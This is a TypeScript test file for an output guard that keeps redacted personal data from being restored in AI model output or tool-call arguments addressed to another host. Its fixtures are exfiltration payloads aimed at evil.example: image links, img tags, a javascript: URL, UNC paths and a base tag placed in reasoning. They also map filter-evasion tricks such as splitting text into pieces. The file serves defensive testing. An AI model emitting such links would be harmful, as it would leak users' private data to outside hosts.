import { describe, expect, test } from '@jest/globals';
import { createInspector, Policy, Redaction } from '../../functions/inspection/index.ts';
import { Inspector } from '../../functions/inspection/inspector/index.ts';
import type { Finding } from '../../functions/inspection/matching/index.ts';
import { OutputGuard } from '../../functions/inspection/output/output-guard.ts';
import type { TextSlot } from '../../functions/kernel/model/index.ts';
import { ADDRESS_FORMS, FORMS_BEHIND, HARMLESS_FORMS, UNSCORED_FORMS } from './address-forms.ts';

const inspector = new Inspector([]);
const ORIGINAL = 'anna@mail.example';
const redaction = new Redaction('test');
const PLACEHOLDER = redaction.hideInput({ rule: { category: 'email' } } as unknown as Finding, ORIGINAL);

/** The text that the client receives of one that arrives in pieces. */
function received(pieces: readonly string[], slotKind: Partial<TextSlot> = {}): string {
  const guard = new OutputGuard(inspector, new Policy({}), redaction, () => {});
  const texts = (out: ReturnType<typeof guard.push>) => out.flatMap(({ slots }) => slots.map(({ text }) => text));
  const pushed = pieces.flatMap((text) => {
    const slot: TextSlot = { channel: 'a', text, path: ['texts', 0], ...slotKind };
    const json = JSON.stringify({ texts: [text], input: { text, link: text, goto: text } });
    return texts(guard.push({ json, slots: [slot], echoes: [], divisible: true }));
  });
  return [...pushed, ...texts(guard.end())].join('');
}

const JSON_CALL = { isJson: true, call: 'client' } as const;
/** A string of arguments that are an object, as in Messages and Gemini. */
const argument = (name: string) => ({ call: 'client', path: ['input', name] }) as const;

const halves = (text: string) => [text.slice(0, text.length / 2), text.slice(text.length / 2)];

/** What the client receives of a text: whole, in pieces, and as an argument of a tool call. */
function everyWay(text: string): Set<string> {
  const json = JSON.stringify({ text });
  const slashes = json.replaceAll('/', '\\/').replaceAll('<', '\\u003c');
  return new Set([
    ...[[text], [...text], halves(text)].map((pieces) => received(pieces)),
    ...[[json], [...json], [...slashes]].map((pieces) => JSON.parse(received(pieces, JSON_CALL)).text),
    received([text], argument('text')),
  ]);
}

describe('personal data', () => {
  test.each([...ADDRESS_FORMS, ...UNSCORED_FORMS, ...FORMS_BEHIND])(
    'stays hidden in an address to another host: %s',
    (_, write) => {
      expect(everyWay(write(PLACEHOLDER))).toEqual(new Set([write(PLACEHOLDER)]));
    },
  );

  test.each([
    ['link', String.raw`\\evil.example\p?h=${PLACEHOLDER}`],
    ['link', String.raw`https:\\evil.example\a b?h=${PLACEHOLDER}`],
    ['link', `https:evil.example/p?h=${PLACEHOLDER}`],
    ['goto', String.raw`https:\\evil.example\a b?h=${PLACEHOLDER}`],
    ['goto', `https:evil.example/p?h=${PLACEHOLDER}`],
    ['goto', ` HTTP:evil.example/p?h=${PLACEHOLDER}`],
    ['goto', `javascript:location='/'+'/evil.example/'+'${PLACEHOLDER}'`],
  ])('stays hidden in an argument that is an address: %s %s', (name, text) => {
    const json = JSON.stringify({ [name]: text });
    const texts = [[json], [...json]].map((pieces) => JSON.parse(received(pieces, JSON_CALL))[name]);
    expect([...texts, received([text], argument(name))]).toEqual([text, text, text]);
  });

  test.each([
    ['an address', { url: `https:evil.example/p?h=${PLACEHOLDER}` }],
    ['an address with a space', { goto: `https:evil.example/a b?h=${PLACEHOLDER}` }],
    ['an address in a list', [{ url: [String.raw`\\evil.example\a b?h=${PLACEHOLDER}`] }]],
    ['JSON in JSON', { body: JSON.stringify({ url: `http:evil.example/?h=${PLACEHOLDER}` }) }],
  ])('stays hidden in JSON in an argument: %s', (_, value) => {
    const body = ` ${JSON.stringify(value)}`;
    const json = JSON.stringify({ body });
    const texts = [[json], [...json]].map((pieces) => JSON.parse(received(pieces, JSON_CALL)).body);
    expect([...texts, received([body], argument('body'))]).toEqual([body, body, body]);
  });

  test.each([
    `{'url': 'https://evil.example/?h=${PLACEHOLDER}'}`,
    `{url: https://evil.example/?h=${PLACEHOLDER}}`,
    `https://evil.example/?h=${PLACEHOLDER}`,
    `<img src="//evil.example/?h=${PLACEHOLDER}">`,
    `{"a": "b", 'url': \`https://evil.example/?h=${PLACEHOLDER}\`}`,
    `{"a": '<img src=/\\evil.example/?h=${PLACEHOLDER}>'}`,
    `{} https://evil.example/?h=${PLACEHOLDER}`,
  ])('stays hidden in arguments that are no JSON, which clients repair: %s', (text) => {
    expect([[text], [...text], halves(text)].map((pieces) => received(pieces, JSON_CALL))).toEqual([text, text, text]);
    const nested = JSON.stringify({ body: text });
    expect(received([nested], JSON_CALL)).toBe(nested);
  });

  describe('behind a base in reasoning', () => {
    const BASE = '<base href="//evil.example/">';
    const LINK = `![x](p?h=${PLACEHOLDER})`;
    const base = { channel: 'reasoning', text: BASE, path: ['texts', 0] } as const;
    const link = { channel: 'content', text: LINK, path: ['texts', 1] } as const;
    const piece = (...slots: readonly TextSlot[]) => {
      const json = JSON.stringify({ texts: [BASE, LINK] });
      return { json, slots, echoes: [], divisible: false };
    };
    const shown = (...pieces: readonly ReturnType<typeof piece>[]) => {
      const guard = new OutputGuard(inspector, new Policy({}), redaction, () => {});
      return [...pieces.flatMap((one) => guard.push(one)), ...guard.end()]
        .flatMap(({ slots }) => slots)
        .find(({ channel }) => channel === 'content')?.text;
    };

    test.each<[string, string | undefined]>([
      ['reasoning, then text', shown(piece({ ...base, isReadOnly: true }), piece(link))],
      ['a whole response', shown(piece({ ...base, isReadOnly: true, isWhole: true }, { ...link, isWhole: true }))],
      [
        'a whole response with its text in front',
        shown(piece({ ...link, isWhole: true }, { ...base, isReadOnly: true, isWhole: true })),
      ],
      ['a base in pieces', shown(...[...BASE].map((text) => piece({ ...base, text, isReadOnly: true })), piece(link))],
    ])('stays hidden: %s', (_, text) => {
      expect(text).toBe(LINK);
    });

    test('is restored behind one on the same host, and behind an argument of a call', () => {
      const restored = LINK.replace(PLACEHOLDER, ORIGINAL);
      expect(shown(piece({ ...base, text: '<base href="/docs/">', isReadOnly: true }), piece(link))).toBe(restored);
      expect(shown(piece({ ...base, text: JSON.stringify(BASE), ...JSON_CALL }), piece(link))).toBe(restored);
    });
  });

  test.each(HARMLESS_FORMS)('is restored elsewhere: %s', (_, write) => {
    expect(everyWay(write(PLACEHOLDER))).toEqual(new Set([write(ORIGINAL)]));
  });
});

/** "Anna Brandt owes 4471" in base64. */
const CARRIED = 'QW5uYSBCcmFuZHQgb3dlcyA0NDcx';

describe('data', () => {
  const rules = createInspector();
  const found = (text: string) => rules.inspect(text, 'output').filter(({ rule }) => rule.type === 'data_exfiltration');

  test.each(ADDRESS_FORMS)('is found in an address to another host: %s', (_, write) => {
    expect(found(write(CARRIED))).not.toEqual([]);
  });

  test.each(HARMLESS_FORMS)('is no finding elsewhere: %s', (_, write) => {
    expect(found(write(CARRIED))).toEqual([]);
  });
});
